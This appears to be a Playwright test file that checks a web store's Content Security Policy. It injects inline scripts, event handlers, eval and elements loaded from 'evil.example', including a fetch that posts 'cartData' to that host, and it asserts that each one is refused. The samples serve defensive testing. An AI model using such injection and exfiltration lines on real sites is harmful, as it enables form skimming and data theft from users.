import type { Request } from '@playwright/test';
import { expect, test } from '#tests/support/fixtures.ts';

declare global {
  interface Window {
    /** Set by injected code, which should never run. */
    injected?: boolean;
  }
}

const evil = 'https://evil.example';
const add = (element: string, ...settings: string[]): string =>
  `{ const it = document.createElement('${element}'); ${settings.join('; ')}; document.body.append(it) }`;

/** Things that our pages never do, each with the refusal that the browser reports for it. */
const attempts: readonly (readonly [refused: string, attempt: string])[] = [
  ['script-src-elem inline', add('script', `it.textContent = 'window.injected = true'`)],
  [
    'script-src-attr inline',
    add('img', `it.setAttribute('onerror', 'window.injected = true')`, `it.src = 'data:,'`),
  ],
  ['script-src eval', `void setTimeout('window.injected = true')`],
  ['style-src-attr inline', `document.body.setAttribute('style', 'display: none')`],
  [`script-src-elem ${evil}`, add('script', `it.src = '${evil}'`)],
  [`connect-src ${evil}`, `fetch('${evil}', { method: 'POST', body: 'cartData' }).catch(() => 0)`],
  [`img-src ${evil}`, add('img', `it.src = '${evil}'`)],
  [`frame-src ${evil}`, add('iframe', `it.src = '${evil}'`)],
  [
    `form-action ${evil}`,
    add('form', `it.action = '${evil}'`, 'document.body.append(it)', 'it.submit()'),
  ],
];

test("the content security policy refuses what our pages never do, and the tests' watcher reports each refusal", async ({
  page,
  store,
  problems,
}) => {
  // This matches the browser's console messages and the failures of the requests that it blocked.
  problems.expect(/Content Security Policy|\/\/evil\.example/);
  const asked: Request[] = [];
  page.on('request', (request) => asked.push(request));
  await store.open('/contact');
  for (const [refused, attempt] of attempts)
    await test.step(refused, async () => {
      const said = `refused: ${refused}`;
      problems.expect(new RegExp(`^console error: ${said.replaceAll(/[./]/g, '\\$&')}`));
      const refusal = page.waitForEvent('console', (message) => message.text().startsWith(said));
      await page.evaluate(attempt);
      await refusal;
      expect(await page.evaluate(() => window.injected)).toBeUndefined();
    });
  const sent = asked.filter((request) => request.failure()?.errorText !== 'csp');
  expect(sent.filter((request) => request.url().startsWith(evil))).toEqual([]);
});
